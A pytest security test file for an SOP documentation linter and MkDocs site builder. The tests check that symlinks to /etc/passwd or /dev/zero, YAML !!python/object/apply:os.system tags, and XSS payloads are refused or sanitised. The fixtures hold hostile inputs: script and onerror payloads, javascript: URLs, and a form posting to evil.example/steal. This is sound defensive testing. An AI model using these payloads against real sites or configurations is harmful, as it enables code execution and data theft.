"""Issue 9, publishing: what an untrusted SOP or branches file can make the site do.

Each test names the issue bullet it covers. The fixtures are small projects written here:
two branches, SOPs in English, Swedish, Norwegian and Telugu.
"""

from __future__ import annotations

import os
import re
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from sop_lint.cli import main

PYPROJECT = '[tool.sop-lint]\ndocs = "docs"\n\n[tool.sop-lint.branches]\nfile = "branches.yml"\n'
MKDOCS = "site_name: Nordlys procedures\ntheme:\n  name: material\n  font: false\n"
BRANCHES = textwrap.dedent(
    """\
    org:
      name: Nordlys Service
    branches:
      - id: goteborg-hamn
        name: Göteborg Hamn
        languages: [sv, en]
        vars:
          phone: "031-555 01 20"
      - id: hyderabad-banjara-hills
        name: Hyderabad Banjara Hills
        languages: [te, en]
        vars:
          phone: "040 5550 1234"
    """
)
EN = textwrap.dedent(
    """\
    ---
    id: CS-010
    title: Returning a rental car
    status: effective
    lang: en
    ---

    # Returning a rental car

    ## Procedure

    1. Check the fuel gauge with the customer.
    2. If the tank is not full, call {{ branch.phone }} for the fuel charge.
    """
)
SV = textwrap.dedent(
    """\
    ---
    id: CS-010
    title: Återlämna en hyrbil
    status: effective
    lang: sv
    ---

    # Återlämna en hyrbil

    ## Procedur

    1. Kontrollera bränslemätaren tillsammans med kunden.
    2. Ring {{ branch.phone }} om tanken inte är full.
    """
)
TE = textwrap.dedent(
    """\
    ---
    id: CS-010
    title: అద్దె కారును తిరిగి ఇవ్వడం
    status: effective
    lang: te
    ---

    # అద్దె కారును తిరిగి ఇవ్వడం

    ## విధానం

    1. కస్టమర్‌తో కలిసి ఇంధన సూచికను తనిఖీ చేయండి.
    2. ట్యాంక్ నిండకపోతే {{ branch.phone }} కు కాల్ చేయండి.
    """
)
NB = textwrap.dedent(
    """\
    ---
    id: CS-011
    title: Levere tilbake en leiebil
    status: effective
    lang: nb
    ---

    # Levere tilbake en leiebil

    ## Prosedyre

    1. Sjekk drivstoffmåleren sammen med kunden.
    2. Skriv kilometerstanden i kontrakten.
    """
)


def project(root: Path, pages: dict[str, str] | None = None, mkdocs: str = MKDOCS) -> Path:
    """A small project: branches, MkDocs file, and ``pages`` (path under docs -> text)."""
    pages = pages if pages is not None else {"en/returns.md": EN, "sv/returns.md": SV}
    for relative, text in pages.items():
        path = root / "docs" / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    (root / "branches.yml").write_text(BRANCHES, "utf-8")
    (root / "mkdocs.yml").write_text(mkdocs, "utf-8")
    (root / "pyproject.toml").write_text(PYPROJECT, "utf-8")
    return root


def run(*args: str, cwd: Path):
    """`sop-lint ...` in ``cwd``, in-process."""
    old = Path.cwd()
    os.chdir(cwd)
    try:
        return CliRunner().invoke(main, list(args), catch_exceptions=False)
    finally:
        os.chdir(old)


def build(root: Path, *extra: str):
    return run("site", "build", "--jobs", "1", "--no-guide", *extra, cwd=root)


def article(html: str) -> str:
    """The page's content: the HTML made from the SOP, without the theme around it."""
    return html.split('<article class="md-content__inner md-typeset">', 1)[1].split(
        "</article>", 1
    )[0]


def every_file(site: Path) -> str:
    """Every file the site holds, as text (binary files too, decoded loosely)."""
    return "\n".join(
        p.read_bytes().decode("utf-8", "replace") for p in site.rglob("*") if p.is_file()
    )


def link(path: Path, target: str | Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    return path


PASSWD_LINE = Path("/etc/passwd").read_text("utf-8").splitlines()[0]
SECRET = "sop-lint-test-secret-4f1c"


# -- Leaks: "A symlink in docs/ pointing at any readable file is published" -----------------


def test_symlinks_in_docs_to_files_outside_the_project_are_never_published(
    tmp_path, monkeypatch, caplog
):
    monkeypatch.setenv("SOP_LINT_TEST_SECRET", SECRET)  # in /proc/self/environ
    root = project(tmp_path)
    link(root / "docs/en/passwd.md", "/etc/passwd")  # as an SOP page
    link(root / "docs/en/environ.txt", "/proc/self/environ")  # as a file of the site
    link(root / "docs/sv/kontakter.csv", "/etc/passwd")
    link(root / "docs/guide/secrets.txt", "/proc/self/environ")
    # A symlink that stays inside the project is published as usual.
    (root / "shared").mkdir()
    (root / "shared" / "fuel-card.txt").write_text("Fuel card PIN: ask the manager.\n")
    link(root / "docs/en/fuel-card.txt", root / "shared" / "fuel-card.txt")
    result = build(root)
    assert result.exit_code == 0, result.output
    site = every_file(root / "site")
    assert PASSWD_LINE not in site
    assert SECRET not in site
    assert not list((root / "site").rglob("passwd*")) and not list(
        (root / "site").rglob("environ*")
    )
    assert "Fuel card PIN" in (root / "site/goteborg-hamn/en/fuel-card.txt").read_text()
    for name in ("docs/en/passwd.md", "docs/en/environ.txt", "docs/sv/kontakter.csv"):
        assert f"{name}: not published: the file is a symlink to a file outside the project" in (
            caplog.text
        )


def test_mkdocs_with_the_plugin_does_not_copy_symlinks_out_of_the_project(tmp_path):
    """`mkdocs build` itself follows symlinks; the plugin takes those files out."""
    import subprocess
    import sys

    root = project(tmp_path, mkdocs=MKDOCS + "plugins:\n  - search\n  - sop-lint\n")
    link(root / "docs/guide/passwd.txt", "/etc/passwd")
    link(root / "docs/en/passwd.txt", "/etc/passwd")
    (root / "docs/guide/index.md").write_text("# Guide\n\nHow to write an SOP.\n")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOP_LINT_BRANCH": "goteborg-hamn"}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[2])
    done = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build"],
        cwd=root,
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    assert PASSWD_LINE not in every_file(root / "site")
    assert not (root / "site/guide/passwd.txt").exists()
    assert "docs/guide/passwd.txt: not published: the file is a symlink" in done.stderr
    assert (root / "site/guide/index.html").is_file()


def test_the_guide_build_refuses_a_symlink_out_of_the_project(tmp_path, caplog):
    root = project(tmp_path)
    (root / "docs/guide").mkdir(parents=True)
    (root / "docs/guide/index.md").write_text("# Guide\n\nHow to write an SOP.\n")
    link(root / "docs/guide/passwd.txt", "/etc/passwd")
    result = run("site", "build", "--jobs", "1", cwd=root)
    assert PASSWD_LINE not in every_file(root / "site")
    assert "docs/guide/passwd.txt: not published" in result.output + caplog.text


# -- Stalls: "A symlink to /dev/zero (as an SOP or as branches.file) reads until memory
# runs out" ---------------------------------------------------------------------------------


def _cli(root: Path, *args: str, timeout: float = 300):
    """`sop-lint ...` in a child process, with a wall-clock guard: a read of /dev/zero
    would otherwise never end (this catches a hang; it does not measure speed)."""
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    env["NO_MKDOCS_2_WARNING"] = "1"
    return subprocess.run(
        [sys.executable, "-m", "sop_lint", *args],
        cwd=root,
        capture_output=True,
        text=True,
        env=env,
        timeout=timeout,
    )


def test_an_sop_that_is_a_symlink_to_dev_zero_is_refused_not_read(tmp_path):
    root = project(tmp_path)
    link(root / "docs/en/zero.md", "/dev/zero")
    done = _cli(root, "site", "build", "--jobs", "1", "--no-guide")
    assert done.returncode == 0, done.stderr
    assert "docs/en/zero.md: not published: the file is a symlink to a file outside" in (
        done.stderr
    )
    # Named directly (no symlink), a device is refused as one.
    (root / "pyproject.toml").write_text(PYPROJECT.replace('"branches.yml"', '"/dev/zero"'))
    done = _cli(root, "site", "build", "--jobs", "1", "--no-guide")
    assert done.returncode == 2
    assert "/dev/zero:1:1: the branches file is not a regular file (a device)" in done.stderr


def test_a_branches_file_that_is_a_symlink_to_dev_zero_is_an_error_naming_it(tmp_path):
    from sop_lint.branching.data import BranchDataError, load_branches

    root = project(tmp_path)
    (root / "branches.yml").unlink()
    link(root / "branches.yml", "/dev/zero")
    with pytest.raises(BranchDataError) as caught:
        load_branches(root / "branches.yml", root)
    assert "the branches file is a symlink to a file outside the project" in str(caught.value)
    with pytest.raises(BranchDataError) as caught:
        load_branches(Path("/dev/zero"), root)
    assert "the branches file is not a regular file (a device)" in str(caught.value)
    done = _cli(root, "check", "docs")
    assert done.returncode == 2
    assert "branches.yml:1:1: the branches file is a symlink to a file outside" in done.stderr
    done = _cli(root, "site", "build", "--no-guide")
    assert done.returncode == 2
    assert "branches.yml:1:1: the branches file is a symlink to a file outside" in done.stderr


def test_a_branches_file_linked_from_outside_the_project_is_refused(tmp_path):
    from sop_lint.branching.data import BranchDataError, load_branches

    outside = tmp_path / "elsewhere" / "branches.yml"
    outside.parent.mkdir()
    outside.write_text(BRANCHES, "utf-8")
    root = project(tmp_path / "p")
    (root / "branches.yml").unlink()
    link(root / "branches.yml", outside)
    with pytest.raises(BranchDataError, match="symlink to a file outside the project"):
        load_branches(root / "branches.yml", root)


# -- Code execution: "mkdocs.yml is read with a YAML loader that honours
# !!python/object/apply" -------------------------------------------------------------------

HOSTILE_MKDOCS = (
    MKDOCS
    + "site_description: !ENV [SOP_LINT_TEST_DESCRIPTION, 'Nordlys procedures']\n"
    + 'extra:\n  boom: !!python/object/apply:os.system ["touch {marker}"]\n'
    + '  new: !!python/object/new:os.system ["touch {marker}"]\n'
    + "markdown_extensions:\n"
    + "  - pymdownx.emoji:\n"
    + "      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
    + "  - toc:\n"
    + "      slugify: !!python/object/apply:pymdownx.slugs.slugify {{kwds: {{case: lower}}}}\n"
    + "  - pymdownx.snippets:\n      base_path: !relative $config_dir\n"
)


def test_sop_lint_reads_mkdocs_yml_without_running_python_tags(tmp_path, monkeypatch):
    from sop_lint.site.build import read_mkdocs_yml
    from sop_lint.site.project import PythonTag

    marker = tmp_path / "ran"
    root = project(tmp_path / "p", mkdocs=HOSTILE_MKDOCS.format(marker=marker))
    monkeypatch.setenv("SOP_LINT_TEST_DESCRIPTION", "Procedures for every branch")
    data = read_mkdocs_yml(root / "mkdocs.yml")
    assert not marker.exists()
    assert data["site_name"] == "Nordlys procedures"
    assert data["site_description"] == "Procedures for every branch"  # !ENV as MkDocs reads it
    emoji = data["markdown_extensions"][0]["pymdownx.emoji"]["emoji_index"]
    assert emoji == PythonTag("python/name:material.extensions.emoji.twemoji", "")
    assert data["markdown_extensions"][2]["pymdownx.snippets"]["base_path"] == "$config_dir"
    # `site render` reads the MkDocs file for docs_dir: nothing runs there either.
    result = run("site", "render", "--branch", "goteborg-hamn", "--out", "out", cwd=root)
    assert result.exit_code == 0, result.output
    assert not marker.exists()


def test_an_inherited_mkdocs_file_is_read_safely_too(tmp_path):
    from sop_lint.site.build import read_mkdocs_yml

    marker = tmp_path / "ran"
    root = project(tmp_path / "p")
    (root / "base.yml").write_text(
        f'docs_dir: docs\nextra:\n  x: !!python/object/apply:os.system ["touch {marker}"]\n'
    )
    (root / "mkdocs.yml").write_text("INHERIT: base.yml\n" + MKDOCS)
    data = read_mkdocs_yml(root / "mkdocs.yml")
    assert data["docs_dir"] == "docs" and data["site_name"] == "Nordlys procedures"
    assert not marker.exists()


# -- Leaks: "<script> in an SOP body, and in the front-matter title (rendered unescaped),
# is published as a live script on every branch's site" -----------------------------------

HOSTILE_BODY = textwrap.dedent(
    """\
    ---
    id: CS-012
    title: <script>alert('title')</script> Damage & scratches
    owner: <img src=x onerror=alert('owner')>
    version: <b onmouseover=alert('version')>2</b>
    status: effective
    lang: en
    ---

    # Damage & scratches

    <script>alert('body')</script>

    <img src="../damage.png" alt="Damage diagram" onerror="alert('img')">

    <a href="javascript:alert('link')">Open the form</a> or
    <a href="https://nordlys.example/skador">the claims page</a>.

    <iframe src="https://evil.example/"></iframe>
    <object data="payload.swf"></object>
    <form action="https://evil.example/steal"><input type="text" name="pin"></form>
    <style>body { background: url("javascript:alert('css')") }</style>
    <div style="background-image: url(javascript:alert('style'))">Marked area</div>

    ## Procedure

    1. Press <kbd>Ctrl</kbd>+<kbd>P</kbd> to print the damage report.
    2. Write the <abbr title="Vehicle identification number">VIN</abbr> on the form.
    3. Store it at 5 m<sup>2</sup> or less, next to the H<sub>2</sub>O tank.
    4. <mark>Never</mark> repair the damage yourself.<br>Call {{ branch.phone }} instead.

    <details><summary>If the customer disagrees</summary>
    Write what the customer says, word for word.
    </details>

    | Part | Who pays |
    |:-----|---------:|
    | Windscreen | Insurance |
    """
)


# An event handler, a javascript: URL or a style inside a tag (not as escaped text).
LIVE_ATTRIBUTE = re.compile(
    r"<[a-z][^>]*\s(?:on[a-z]+\s*=|(?:href|src|action|data)\s*=\s*[\"']?\s*javascript:"
    r"|style\s*=\s*[\"'][^\"']*url)",
    re.IGNORECASE,
)


def test_raw_html_in_an_sop_is_sanitised_and_front_matter_is_escaped(tmp_path):
    root = project(tmp_path, {"en/damage.md": HOSTILE_BODY, "en/damage.png": "png"})
    result = build(root)
    assert result.exit_code == 0, result.output
    for branch in ("goteborg-hamn", "hyderabad-banjara-hills"):
        for page in ("damage/index.html", "index.html", "dashboard/index.html"):
            html = (root / "site" / branch / "en" / page).read_text("utf-8")
            assert "<script>alert" not in html, (branch, page)
            content = article(html)  # the theme's own search form is outside it
            for live in ("<iframe", "<object", "<form", 'name="pin"', "<style"):
                assert live not in content, (branch, page, live)
            assert not LIVE_ATTRIBUTE.search(html), (branch, page, LIVE_ATTRIBUTE.search(html))
        page = (root / "site" / branch / "en" / "damage/index.html").read_text("utf-8")
        # The title is text, everywhere the theme shows it.
        title = "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt; Damage &amp; scratches"
        assert f"<title>{title} - " in page
        assert page.count(title) >= 3  # <title>, header, navigation
        assert "<dd>&lt;img src=x onerror=alert('owner')&gt;</dd>" in page  # the owner row
        # What writers use is kept.
        assert "<kbd>Ctrl</kbd>+<kbd>P</kbd>" in page
        assert '<abbr title="Vehicle identification number">VIN</abbr>' in page
        assert "m<sup>2</sup>" in page and "H<sub>2</sub>O" in page
        assert "<mark>Never</mark>" in page and "<br>" in page
        assert "<details><summary>If the customer disagrees</summary>" in page
        assert '<img src="../damage.png" alt="Damage diagram">' in page
        assert '<a href="https://nordlys.example/skador">the claims page</a>' in page
        assert '<th style="text-align:left">Part</th>' in page
        assert "Marked area" in page and "Open the form" in page
    # Material's own scripts are still there: the theme's HTML is not touched.
    assert '<script src="../assets/javascripts/bundle.' in page


def test_branch_names_from_the_branches_file_are_text_on_every_page(tmp_path):
    root = project(tmp_path)
    branches = BRANCHES.replace("name: Göteborg Hamn", 'name: "Göteborg <script>alert(1)</script>"')
    (root / "branches.yml").write_text(branches, "utf-8")
    result = build(root)
    assert result.exit_code == 0, result.output
    for page in (root / "site" / "goteborg-hamn").rglob("*.html"):
        assert "<script>alert(1)" not in page.read_text("utf-8"), page


# -- Leaks: "Literal text equal to the renderer's internal placeholder strings is replaced by
# a branch value, or crashes the build with a bare IndexError" ------------------------------

PLACEHOLDERS = "qsoplint0q qsoplint1q qsoplint99q \x00sop-lint-site-name\x00"


def test_literal_placeholder_strings_render_unchanged():
    from sop_lint.branching.render import compile_template

    source = "Call {{ branch.phone }} (ref qsoplint0q, qsoplint1q, qsoplint99q).\n"
    shape = compile_template(source).render_shape({"phone": "031-555 01 20"}, {})
    assert shape.fill() == "Call 031-555 01 20 (ref qsoplint0q, qsoplint1q, qsoplint99q).\n"
    html = "<p>Call " + shape.text.split("Call ", 1)[1].split("\n")[0] + "</p>"
    assert shape.fill_html(html) == (
        "<p>Call 031-555 01 20 (ref qsoplint0q, qsoplint1q, qsoplint99q).</p>"
    )


def test_literal_line_markers_do_not_move_findings():
    """The linter's line markers are unforgeable too: a NUL and digits in the SOP's text
    are not a marker."""
    from sop_lint.branching.render import compile_template

    source = "Line one \x0012\x00 {{ branch.phone }}\nLine two\n"
    template = compile_template(source, 5, marked=True)
    text, lines, missing = template.render_checked({"phone": "031"}, {})
    assert text.lstrip("\n") == "Line one \x0012\x00 031\nLine two\n"
    assert lines[4:] == [5, 6, 7]
    assert missing == []


def test_a_page_holding_the_placeholder_strings_builds_and_shows_them(tmp_path):
    page = EN.replace(
        "1. Check the fuel gauge with the customer.",
        "1. Write the code qsoplint0q, qsoplint7q and qsoplint99q on the form.",
    )
    root = project(tmp_path, {"en/returns.md": page, "sv/returns.md": SV})
    result = build(root)
    assert result.exit_code == 0, result.output
    html = (root / "site/goteborg-hamn/en/returns/index.html").read_text("utf-8")
    assert "Write the code qsoplint0q, qsoplint7q and qsoplint99q on the form." in html
    assert "call 031-555 01 20 for the fuel charge" in html


# -- "a finding in check warns where the build would strip something" ----------------------

# (raw HTML as an SOP writer might put it in a page, does the build strip something?)
# Written the way the sanitiser writes HTML back (double quotes, attribute order), so "kept"
# means the published HTML is exactly what the writer wrote.
HTML_TABLE = [
    ("Press <kbd>Ctrl</kbd>+<kbd>S</kbd> to save.", False),
    ("First line<br>second line", False),
    ("<details><summary>If the till is locked</summary>Call the manager.</details>", False),
    ('<abbr title="Point of sale">POS</abbr> and m<sup>2</sup>, H<sub>2</sub>O', False),
    ("<mark>Never</mark> leave the keys in the car.", False),
    ('<img src="../fuel-gauge.png" alt="Fuel gauge">', False),
    ('<img src="https://nordlys.example/gauge.png" alt="Fuel gauge">', False),
    ('<a href="tel:+46315550120">031-555 01 20</a>', False),
    ('<a href="mailto:skador@nordlys.example">Report damage</a>', False),
    ('<table><tbody><tr><td style="text-align:right">12</td></tr></tbody></table>', False),
    ('<span class="sop-flag" id="flag-1" lang="te">జాగ్రత్త</span>', False),
    ('<input type="checkbox" disabled="">Tank full', False),
    ("<script>alert('x')</script>Kontrollera bränslet.", True),
    ("<style>p { color: red }</style>Sjekk drivstoffet.", True),
    ('<img src="../fuel-gauge.png" alt="Fuel gauge" onerror="alert(1)">', True),
    ('<a href="javascript:alert(1)">Open the form</a>', True),
    ('<a href="JaVaScRiPt&colon;alert(1)">Open the form</a>', True),
    ('<img src="data:image/png;base64,AAAA" alt="Gauge">', True),
    ('<iframe src="https://nordlys.example/form"></iframe>', True),
    ('<object data="manual.pdf"></object>', True),
    ('<form action="https://nordlys.example/">Send</form>', True),
    ('<input type="text" name="pin">', True),
    ('<p onclick="steal()">Ring kunden.</p>', True),
    ('<div style="color:red">కస్టమర్‌కు కాల్ చేయండి.</div>', True),
    ('<a href="https://nordlys.example/" target="_blank">Claims</a>', True),
    ('<font color="red">Stop</font>', True),
    ('<button type="button">Print</button>', True),
]


@pytest.mark.parametrize(("html", "strips"), HTML_TABLE)
def test_the_linter_and_the_build_agree_on_what_is_stripped(html, strips):
    from sop_lint.html_policy import sanitise, stripped

    assert (sanitise(html) != html) is strips, sanitise(html)
    assert bool(list(stripped(html))) is strips


def test_comments_are_removed_but_not_flagged_they_are_never_shown():
    from sop_lint.html_policy import sanitise, stripped

    html = "<!-- sop-lint-disable B001 -->Kontrollera bränslet."
    assert sanitise(html) == "Kontrollera bränslet."
    assert list(stripped(html)) == []


def _lint(root: Path, text: str, path: str = "docs/en/damage.md"):
    from sop_lint.config import load_config
    from sop_lint.engine import check_text

    old = Path.cwd()
    os.chdir(root)
    try:
        return check_text(text, path=path, config=load_config(root))
    finally:
        os.chdir(old)


def test_raw_html_stripped_flags_each_removed_tag_and_attribute_at_its_place(tmp_path):
    root = project(tmp_path)
    found = [f for f in _lint(root, HOSTILE_BODY) if f.rule == "J005"]
    where = [(f.line, f.column, f.message.split(";")[0]) for f in found]
    assert where == [
        (12, 1, "the site removes <script> when it publishes this page"),
        (14, 47, "the site removes the attribute onerror on <img> when it publishes this page"),
        (
            16,
            4,
            "the site removes the link href=\"javascript:alert('link')\" on <a> when it "
            "publishes this page",
        ),
        (19, 1, "the site removes <iframe> when it publishes this page"),
        (20, 1, "the site removes <object> when it publishes this page"),
        (21, 1, "the site removes <form> when it publishes this page"),
        (21, 43, "the site removes <input> when it publishes this page"),
        (22, 1, "the site removes <style> when it publishes this page"),
        (23, 6, "the site removes the attribute style on <div> when it publishes this page"),
    ]
    assert found[0].severity.name == "WARNING"
    assert "link to the form instead" in found[5].message


def test_raw_html_stripped_ignores_code_and_what_the_site_keeps(tmp_path):
    root = project(tmp_path)
    page = SV.replace(
        "1. Kontrollera bränslemätaren tillsammans med kunden.",
        "1. Tryck <kbd>Ctrl</kbd>+<kbd>P</kbd>; skriv inte `<script>` eller ``<b onclick=x>``.\n\n"
        "```html\n<form action=x></form>\n```\n\n"
        "Se <https://nordlys.example/skador> eller <skador@nordlys.example>.\n\n"
        "    <iframe src=x></iframe>\n\n"
        "<!-- sop-lint-disable B001 -->\n",
    )
    assert [f for f in _lint(root, page, "docs/sv/returns.md") if f.rule == "J005"] == []


@pytest.mark.parametrize("page", ["\ufeff---\n---", "---\nid: CS-014\n---", "---\n---\n"])
def test_raw_html_stripped_on_a_file_of_front_matter_only(tmp_path, page):
    # Found by the fuzzer: a BOM and an empty front matter was an IndexError in J005.
    root = project(tmp_path)
    assert [f for f in _lint(root, page, "docs/sv/returns.md") if f.rule == "J005"] == []


# -- "check accepts {% raw %}, {{ '{{' }} and a template in an H1 that the build then
# rejects: the two must agree" --------------------------------------------------------------

# (what the SOP says, in the body unless it starts with "---", do both publish it?)
AGREEMENT_TABLE = [
    ("1. Call {{ branch.phone }} for the fuel charge.", True),
    ("1. {%- if branch.phone is defined -%}Call {{ branch.phone }}.{%- endif -%}", True),
    ("1. Write the amount in the box { } on the form.", True),
    ("1. Skriv beloppet i rutan &amp;#123; belopp &amp;#125;.", True),
    ("1. Skriv beloppet i rutan &#123;&#123; belopp &#125;&#125;.", False),
    ("1. Skriv beloppet i rutan &lbrace;% belopp %&rbrace;.", False),
    ("1. Call the branch.{# The number is in branches.yml. #}", True),
    ("1. Write {% raw %}{{ branch.phone }}{% endraw %} on the sign.", False),
    ("1. Write {{ '{{' }} and the number on the sign.", False),
    ("1. Write {{ '{%' }} on the sign.", False),
    ("1. Write {{ '{' }}{{ '{' }} on the sign.", False),
    ("1. Skriv \\{\\{ telefon \\}\\} på skylten.", False),
    ("1. Skriv {\\{ telefon }} på skylten.", False),
    ("# Call {{ branch.phone }}\n\n1. Check the gauge.", False),
    ("---\nid: CS-020\ntitle: Call {{ branch.phone }}\nlang: en\n---\n\n1. Check.", False),
    ("---\nid: CS-020\nowner: '{{ branch.manager }}'\nlang: en\n---\n\n# Fuel\n\n1. Go.", False),
    ("---\nid: CS-020\ntitle: Fuel\nlang: en\n---\n\n# Call {{ branch.phone }}\n\n1. Go.", True),
]


def _page_of(snippet: str) -> str:
    if snippet.startswith("---"):
        return snippet + "\n"
    if snippet.startswith("# "):
        return "---\nid: CS-020\nlang: en\n---\n\n" + snippet + "\n"
    return (
        "---\nid: CS-020\ntitle: Fuel charges\nlang: en\n---\n\n# Fuel charges\n\n" + snippet + "\n"
    )


def _check_publishes(root: Path) -> bool:
    found = _lint(root, (root / "docs/en/fuel.md").read_text("utf-8"), "docs/en/fuel.md")
    return not [f for f in found if f.rule in ("J001", "J002")]


def _build_publishes(root: Path) -> bool:
    """What `site build` decides before MkDocs runs: the whole project's template check,
    then each branch's pages composed."""
    from sop_lint.config import load_config
    from sop_lint.site.compose import compose_language
    from sop_lint.site.project import SiteError, load_project

    project_ = load_project(load_config(root), root / "branches.yml", root / "docs", lint=False)
    if project_.template_problems():
        return False
    try:
        for branch in project_.data.branches:
            compose_language(project_, branch, "en")
    except SiteError:
        return False
    return True


@pytest.mark.parametrize(("snippet", "publishes"), AGREEMENT_TABLE)
def test_check_and_the_build_agree_on_what_renders(tmp_path, snippet, publishes):
    root = project(tmp_path, {"en/fuel.md": _page_of(snippet)})
    assert _check_publishes(root) is publishes
    assert _build_publishes(root) is publishes


def test_what_both_accept_really_builds(tmp_path):
    accepted = [s for s, ok in AGREEMENT_TABLE if ok and not s.startswith(("---", "# "))]
    body = "\n".join(s.replace("1. ", f"{i}. ", 1) for i, s in enumerate(accepted, 1))
    root = project(tmp_path, {"en/fuel.md": _page_of(body)})
    result = build(root)
    assert result.exit_code == 0, result.output


def test_a_branch_value_with_braces_is_refused_by_both(tmp_path):
    root = project(tmp_path, {"en/fuel.md": _page_of(AGREEMENT_TABLE[0][0])})
    branches = BRANCHES.replace('phone: "040 5550 1234"', 'phone: "{{ 040 5550 1234 }}"')
    (root / "branches.yml").write_text(branches, "utf-8")
    expected = (
        "branches.yml:13:14: branch 'hyderabad-banjara-hills' vars phone holds '{{' or '{%', "
        "which the site refuses to show"
    )
    checked = _cli(root, "check", "docs")
    assert checked.returncode == 2 and expected in checked.stderr
    built = build(root)
    assert built.exit_code == 2 and expected in built.stderr


# -- "Deep nesting in a Jinja2 expression ... is 'internal error' without a line" ------------

DEEP = [
    "{{ " + "(" * 5000 + "branch.phone" + ")" * 5000 + " }}",
    "{{ " + "not " * 5000 + "branch.phone }}",
    "{{ " + " or ".join(["branch.phone"] * 5000) + " }}",
    "{{ branch.phone" + " | upper" * 5000 + " }}",
    "{% if " + "[" * 5000 + "]" * 5000 + " %}x{% endif %}",
]


@pytest.mark.parametrize("expression", DEEP, ids=["parens", "not", "or", "filters", "lists"])
def test_deep_nesting_in_a_template_is_a_finding_at_its_line(tmp_path, expression):
    page = TE.replace("{{ branch.phone }}", expression)
    root = project(tmp_path, {"te/returns.md": page})
    found = _lint(root, page, "docs/te/returns.md")
    deep = [f for f in found if f.rule == "J002"]
    assert [(f.line, f.message.split(";")[0]) for f in deep] == [
        (
            13,
            "the template on this line is nested or chained too deeply (more than 20 "
            "brackets or 'not', or 100 operators and filters)",
        )
    ]
    from sop_lint.config import load_config
    from sop_lint.site.project import load_project

    project_ = load_project(load_config(root), root / "branches.yml", root / "docs", lint=False)
    assert [p.split(";")[0].split("/docs/")[-1] for p in project_.template_problems()] == [
        "te/returns.md:13: the template on this line is nested or chained too deeply "
        "(more than 20 brackets or 'not', or 100 operators and filters)"
    ]


def test_deep_nesting_stops_the_build_naming_file_and_line(tmp_path):
    page = TE.replace("{{ branch.phone }}", DEEP[0])
    root = project(tmp_path, {"te/returns.md": page, "en/returns.md": EN})
    result = build(root)
    assert result.exit_code == 1
    assert "internal error" not in result.output
    assert "docs/te/returns.md:13: the template on this line is nested" in result.stderr


def test_site_render_does_not_copy_symlinks_out_of_the_project(tmp_path):
    root = project(tmp_path)
    link(root / "docs/en/passwd.txt", "/etc/passwd")
    (root / "docs/en/fuel-card.txt").write_text("Fuel card PIN: ask the manager.\n")
    result = run("site", "render", "--branch", "goteborg-hamn", "--out", "out", cwd=root)
    assert result.exit_code == 0, result.output
    assert PASSWD_LINE not in every_file(root / "out")
    assert (root / "out/en/fuel-card.txt").read_text() == "Fuel card PIN: ask the manager.\n"


def test_a_symlinked_folder_out_of_the_project_stops_mkdocs_before_it_walks_it(tmp_path):
    """MkDocs follows symlinked folders: a link to / would have it list the whole machine."""
    import subprocess
    import sys

    root = project(tmp_path, mkdocs=MKDOCS + "plugins:\n  - search\n  - sop-lint\n")
    link(root / "docs/guide/everything", "/")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOP_LINT_BRANCH": "goteborg-hamn"}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[2])
    done = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build"],
        cwd=root,
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert done.returncode == 1
    assert "docs/guide/everything: a symlink to a folder outside the project" in done.stderr
    assert not (root / "site").exists()


# -- the new scanners never fail on odd input -------------------------------------------------

try:
    from hypothesis import HealthCheck, example, given, settings
    from hypothesis import strategies as st
except ImportError:  # pragma: no cover - hypothesis is a test dependency
    given = None

if given is not None:
    PIECES = st.sampled_from(
        ["<", ">", '"', "'", "=", "/", " ", "\n", "`", "{", "}", "%", "#", "\\", "&#123;",
         "<b", "<script>", "</script>", "<img src=x onerror=y>", "<a href='javascript:x'>",
         "{{", "}}", "{%", "%}", "(", ")", "not ", "|upper", "kbd", "ట", "ö", "\x00", "\r"]
    )  # fmt: skip
    TEXTS = st.lists(PIECES, max_size=60).map("".join)

    # derandomize: CI runs the same examples every time (a fresh clone found "\r```").
    @settings(
        max_examples=300,
        deadline=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(TEXTS)
    @example("\r```")  # a lone CR before a fence: markdown-it's line 1, one line to split
    def test_the_html_scan_never_fails_and_stays_inside_the_text(text):
        from sop_lint.html_policy import sanitise, stripped
        from sop_lint.rules.branches import _prose_only

        sanitise(text)
        masked = _prose_only(text)
        assert len(masked) == len(text)
        for found in stripped(masked):
            assert 0 <= found.offset < len(text)
            assert found.offset + found.length <= len(text)

    @settings(
        max_examples=300,
        deadline=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(TEXTS)
    def test_template_checks_never_fail_on_odd_input(text):
        from sop_lint.branching.render import compile_template, leftover_template, publish_problems

        template = compile_template(text, 3)
        for problem in template.problems:
            assert 3 <= problem.line <= 3 + text.count("\n") + text.count("\r")
        leftover_template(text)
        publish_problems({"title": text}, {"title": 2}, text, 3)
